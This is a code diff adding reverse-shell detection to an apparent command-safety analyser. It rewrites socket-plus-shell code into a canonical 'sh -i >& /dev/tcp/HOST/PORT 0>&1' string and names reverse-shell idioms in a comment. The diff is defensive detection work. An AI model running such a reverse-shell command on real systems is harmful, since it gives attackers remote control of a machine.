@@ -222,6 +222,33 @@ function synthesize(
   }
 }
 
+const SHELL_PROGRAM = /^(?:\S*\/)?(?:ba|z|da|k|a|mk)?sh$/;
+
+/**
+ * Code that opens a TCP socket and starts a shell (`s.connect((h, p)); os.dup2(…); pty.spawn(
+ * '/bin/sh')`, `net.connect(p, h)` piped into `spawn('/bin/sh')`) is a reverse shell: GTFOBins'
+ * python/node/perl/ruby/php "Reverse shell" recipes (https://gtfobins.github.io/#+reverse%20shell).
+ * It is added as the canonical `sh -i >& /dev/tcp/HOST/PORT 0>&1`, so rules about reverse shells
+ * and network sinks judge every language's spelling of it.
+ */
+function reverseShell(analysis: CodeAnalysis): void {
+  const socket = analysis.actions.find((a) => a.kind === 'socket');
+  if (socket?.kind !== 'socket') return;
+  const shell = analysis.actions.find(
+    (a) =>
+      (a.kind === 'argv' && SHELL_PROGRAM.test(a.argv[0] ?? '')) ||
+      (a.kind === 'shell' && SHELL_PROGRAM.test(a.text.trim().split(/\s+/)[0] ?? '')),
+  );
+  if (!shell) return;
+  const port = socket.port && /^\d+$/.test(socket.port) ? socket.port : '0';
+  analysis.actions.push({
+    kind: 'shell',
+    text: `sh -i >& /dev/tcp/${socket.host}/${port} 0>&1`,
+    via: `${socket.via} + ${shell.via}`,
+    at: socket.at,
+  });
+}
+
 /** A database client command running `sql` against the code's first connection. */
 function sqlClient(analysis: CodeAnalysis, sql: string | undefined): string {
   const target = analysis.connections[0];
@@ -285,6 +312,7 @@ export function checkInterpreter(cmd: ShellCommand, ctx: Ctx): boolean {
     ...(cmd.remote ? { remote: cmd.remote } : {}),
   };
   const hasSql = analysis.actions.some((a) => a.kind === 'sql');
+  reverseShell(analysis);
   const items: { text: string; effects?: ActionEffect[]; at: Span }[] = [];
   for (const a of analysis.actions) {
     if (a.kind === 'opaque') {
